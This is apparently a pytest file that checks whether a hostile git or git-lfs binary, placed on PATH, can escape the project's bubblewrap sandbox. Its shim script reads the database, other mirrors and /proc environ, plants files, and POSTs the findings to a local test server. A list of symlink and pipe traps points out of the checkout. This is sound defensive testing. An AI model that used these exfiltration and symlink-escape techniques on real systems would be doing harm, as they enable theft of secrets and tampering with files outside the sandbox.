"""git and `git lfs` in the sandbox: the reach of a hostile one, and Planward's treatment of the files that it leaves.

Each attack is a program on PATH that replaces git or git-lfs, as if the contents of a repository had taken it over.
"""

import asyncio
import os
import textwrap
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from ghapp.git import GitError, LargeFiles, checkout
from ghapp.git.kept_checkouts import NotTheTree, seal_of
from ghapp.values import TreeId
from tests.ghapp.git.sandbox.mirrors import (
    ATTRIBUTES,
    PROGRAM,
    LargeFileServer,
    environment_for,
    laid_out,
    mirror_with,
    pointer_to,
    tree_of,
)
from tests.sandboxes import PYTHON, each_sandbox, in_bubblewrap

ATTACK = """\
#!@PYTHON@ -IS
import json, os, sys, urllib.request
DATA = "@DATA@"

def tried(attack):
    try:
        return attack()
    except OSError:
        return None

def plant(path):
    open(path, "w").close()

def report():
    said = {
        "the database": tried(lambda: open(f"{DATA}/planward.db").read()),
        "another mirror": tried(lambda: open(f"{DATA}/mirrors/8.git/HEAD").read()),
        "the list of mirrors": tried(lambda: "8.git" in os.listdir(f"{DATA}/mirrors")),
        "planward's environment": tried(lambda: open("/proc/@VICTIM@/environ").read()) and True,
    }
    for place in ("mirrors/7.git", "mirrors/7.git/objects", "states"):
        tried(lambda: plant(f"{DATA}/{place}/planted"))
    said["variables"] = sorted(os.environ)
    body = json.dumps(said).encode()
    urllib.request.urlopen(urllib.request.Request("@URL@/report", body, method="POST")).close()
"""


@contextmanager
def shim(
    name: str, script: str, data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> Iterator[None]:
    """Put a program on PATH before the real one."""
    directory = data.parent / "programs"
    directory.mkdir(mode=0o755, exist_ok=True)
    (data / "states").mkdir(mode=0o700, exist_ok=True)
    text = ATTACK + textwrap.dedent(script)
    for key, value in (
        ("@PYTHON@", PYTHON),
        ("@DATA@", str(data)),
        ("@URL@", server.url),
        ("@VICTIM@", str(os.getpid())),
        ("@GIT@", PROGRAM),
    ):
        text = text.replace(key, value)
    (directory / name).write_text(text)
    (directory / name).chmod(0o755)
    with monkeypatch.context() as patch:
        patch.setenv("PATH", f"{directory}:{os.environ['PATH']}")
        patch.setenv("HTTPS_PROXY", "http://user:password@proxy.example:3128")
        patch.setenv("PLANWARD_WEBHOOK_SECRET", "hunter2")
        yield


def reached(report: dict[str, object], data: Path) -> set[str]:
    """The files that an attack has read, and those that it has written."""
    read = {name for name, found in report.items() if found and name != "variables"}
    return read | {f"writes into {path.parent.relative_to(data)}" for path in data.rglob("planted")}


EVERYTHING = {
    "the database",
    "another mirror",
    "the list of mirrors",
    "planward's environment",
    "writes into mirrors/7.git",
    "writes into mirrors/7.git/objects",
    "writes into states",
}


@each_sandbox
def test_a_git_lfs_that_was_taken_over_reaches_nothing_but_its_own_directory_and_the_network(
    sandbox: str, data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    mirror, tree = mirror_with(data, sandbox, {".gitattributes": ATTRIBUTES, "a.bin": pointer_to(b"contents")})
    with shim("git-lfs", "report()", data, server, monkeypatch), pytest.raises(GitError, match=r"^a\.bin is kept in"):
        laid_out(mirror, tree, LargeFiles(read=("a.bin",), environ=environment_for(server)))
    [report] = server.reports
    assert reached(report, data) == (EVERYTHING if sandbox == "none" else set())
    assert "PLANWARD_WEBHOOK_SECRET" not in report["variables"]  # type: ignore[operator]


@pytest.mark.parametrize("sandbox", [pytest.param("bubblewrap", marks=in_bubblewrap), "none"])
def test_a_git_that_a_tree_has_taken_over_reaches_nothing_but_its_checkout_and_the_objects(
    sandbox: str, data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    mirror, tree = mirror_with(data, sandbox, {"a.tf": b"1"})
    script = """
    if "read-tree" in sys.argv:
        report()
    os.execv("@GIT@", ["git", *sys.argv[1:]])
    """
    with shim("git", script, data, server, monkeypatch):
        assert laid_out(mirror, tree) == {"a.tf": b"1"}
    [report] = server.reports
    assert reached(report, data) == (EVERYTHING if sandbox == "none" else set())
    assert {"PLANWARD_WEBHOOK_SECRET", "HTTPS_PROXY"}.isdisjoint(report["variables"])  # type: ignore[arg-type]


TRAPS = {
    "a directory that leads out": "os.rename('net', '../net'); os.symlink('@DATA@/outside', 'net')",
    "a checkout that leads out": "os.rename('../tree', '../other'); os.symlink('@DATA@/outside', '../tree')",
    "a symlink that no tree has": "os.symlink('@DATA@/outside', 'extra')",
    "a symlink for a file": "os.unlink('a.bin'); os.symlink('@DATA@/outside/a.bin', 'a.bin')",
    "a file that no tree has": "open('extra', 'w').close()",
    "a pipe for a file": "os.unlink('a.bin'); os.mkfifo('a.bin')",
    "an index that leads out": "os.unlink('../index'); os.symlink('@DATA@/planward.db', '../index')",
    "an index that is a pipe": "os.unlink('../index'); os.mkfifo('../index')",
}


def trapping(trap: str) -> str:
    """A git that leaves a trap after it has written a tree."""
    return f"""
    import subprocess
    ended = subprocess.run(["@GIT@", *sys.argv[1:]])
    if "read-tree" in sys.argv:
        {TRAPS[trap]}
    sys.exit(ended.returncode)
    """


@in_bubblewrap
@pytest.mark.parametrize("trap", TRAPS)
def test_files_left_by_a_git_that_was_taken_over_do_not_lead_planward_out_of_the_checkout(
    trap: str, data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = pointer_to(b"contents")
    files = {".gitattributes": ATTRIBUTES, "a.bin": content, "net/b.bin": content}
    mirror, tree = mirror_with(data, "bubblewrap", files)
    outside = data / "outside"
    outside.mkdir()
    for name in ("a.bin", "b.bin"):
        (outside / name).write_bytes(content)
    unread = LargeFiles(unread=("a.bin", "net/b.bin"))
    not_laid_out = pytest.raises(GitError, match=r"^the commit could not be checked out")
    with shim("git", trapping(trap), data, server, monkeypatch), not_laid_out:
        laid_out(mirror, tree, unread)
    assert {path.name: path.read_bytes() for path in outside.iterdir()} == {"a.bin": content, "b.bin": content}
    assert (data / "planward.db").read_text() == "everything that planward remembers"
    assert laid_out(mirror, tree, unread) == {".gitattributes": ATTRIBUTES}


@in_bubblewrap
def test_without_the_comparison_with_the_tree_planward_would_remove_a_file_outside_of_the_checkout(
    data: Path, server: LargeFileServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def not_compared(_: object) -> bool:
        return True

    mirror, tree = mirror_with(data, "bubblewrap", {"net/b.bin": b"x"})
    (data / "outside").mkdir()
    (data / "outside/b.bin").write_bytes(b"x")
    monkeypatch.setattr(checkout._Checkout, "_is_only_the_tree", not_compared)
    with shim("git", trapping("a directory that leads out"), data, server, monkeypatch):
        laid_out(mirror, tree, LargeFiles(unread=("net/b.bin",)))
    assert list((data / "outside").iterdir()) == []


@in_bubblewrap
def test_a_checkout_in_the_sandbox_is_kept_and_its_files_are_not_written_again(data: Path) -> None:
    mirror, first = mirror_with(data, "bubblewrap", {"a.tf": b"1", "net/main.tf": b"x"}, most_kept=1)
    second = tree_of(mirror.path, {"a.tf": b"2", "net/main.tf": b"x"})

    async def seen(tree: TreeId, damage: Callable[[Path], object] = lambda _: None) -> tuple[bytes, int]:
        async with mirror.checkout(tree) as directory:
            found = (directory / "a.tf").read_bytes(), (directory / "net/main.tf").stat().st_ino
            damage(directory)
            return found

    def change(directory: Path) -> None:
        (directory / "a.tf").write_bytes(b"evil")
        (directory / "extra").symlink_to("/etc")

    (one, inode), (two, same), (again, still) = (
        asyncio.run(seen(first, change)),
        asyncio.run(seen(second, change)),
        asyncio.run(seen(second)),
    )
    assert (one, two, again) == (b"1", b"2", b"2")
    assert inode == same == still


def test_an_index_that_git_would_not_have_written_has_no_seal(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "directory").mkdir()
    with (tmp_path / "large").open("wb") as file:
        file.truncate(2_000_000_000)
    for name in ("link", "pipe", "directory", "large"):
        with pytest.raises(NotTheTree):
            seal_of(tmp_path / name)
